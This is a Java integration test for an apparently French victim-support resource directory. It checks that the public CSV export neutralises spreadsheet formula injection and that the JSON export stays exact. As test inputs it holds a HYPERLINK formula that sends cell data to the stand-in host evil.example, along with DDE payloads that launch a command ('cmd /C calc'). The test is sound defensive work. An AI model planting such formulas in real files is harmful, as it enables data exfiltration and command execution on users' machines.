package io.github.clvss.admin;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.clvss.core.Vss;
import io.github.clvss.core.access.Actor;
import io.github.clvss.core.resource.Audience;
import io.github.clvss.core.resource.Resource;
import io.github.clvss.core.resource.ResourceId;
import io.github.clvss.core.resource.ResourceKind;
import io.github.clvss.core.resource.ResourceScope;
import io.github.clvss.core.shared.Language;
import io.github.clvss.core.shared.PhoneNumber;
import io.github.clvss.core.shared.Provenance;
import io.github.clvss.core.shared.Verification;
import io.github.clvss.core.territory.InseeCode;
import io.github.clvss.core.territory.Territory;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.ActiveProfiles;

/** The public open-data CSV, as a re-user downloads it, with formulas typed into a resource. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {"vss.data-dir=./target/it-data/${random.uuid}", "vaadin.devmode.devTools.enabled=false"})
@ActiveProfiles("demo")
class PublicCsvIT {

    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez ici\")";

    @LocalServerPort
    int port;

    @Autowired
    Vss vss;

    @Test
    void a_formula_typed_into_a_resource_comes_out_of_the_public_csv_neutralised_and_exact_in_the_json() throws Exception {
        Territory boulogne = vss.territories().findByInseeCode(Actor.system(), new InseeCode("92012")).orElseThrow();
        vss.resources().addAll(Actor.system(), List.of(new Resource(ResourceId.next(vss.clock()), 0, ResourceScope.LOCAL,
                Optional.of(boulogne.facts().department()), Optional.of(boulogne.id()), ResourceKind.LISTENING, HYPERLINK,
                Map.of(Language.FR, "+cmd|' /C calc'!A0"), Optional.of(PhoneNumber.parse("01 46 09 00 07", "phone").orElseThrow()),
                Optional.empty(), Optional.empty(), Optional.of("@SUM(1+1)*cmd|' /C calc'!A0"), Optional.empty(), Optional.empty(),
                Optional.empty(), true, true, Set.of(Audience.VICTIMS), Verification.now(vss.clock(), "system"),
                Provenance.ENTERED)));

        List<CSVRecord> csv = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(get("/public/92012/ressources.csv"))).getRecords();

        CSVRecord line = csv.stream().filter(r -> r.get("name").contains("HYPERLINK")).findFirst().orElseThrow();
        assertThat(line.get("name")).isEqualTo("'" + HYPERLINK);
        assertThat(line.get("description_fr")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(line.get("address")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(line.get("phone")).isEqualTo("+33146090007");
        assertThat(csv).allSatisfy(record -> assertThat(record.toList()).allSatisfy(cell ->
                assertThat(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0 || cell.matches("\\+\\d+|-?\\d+([.,]\\d+)?"))
                        .as(cell).isTrue()));
        assertThat(get("/public/92012/ressources.json")).contains("\"name\" : \"=HYPERLINK(");
    }

    private String get(String path) throws IOException, InterruptedException {
        try (HttpClient client = HttpClient.newHttpClient()) {
            HttpResponse<String> response = client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(response.statusCode()).isEqualTo(200);
            return response.body();
        }
    }
}
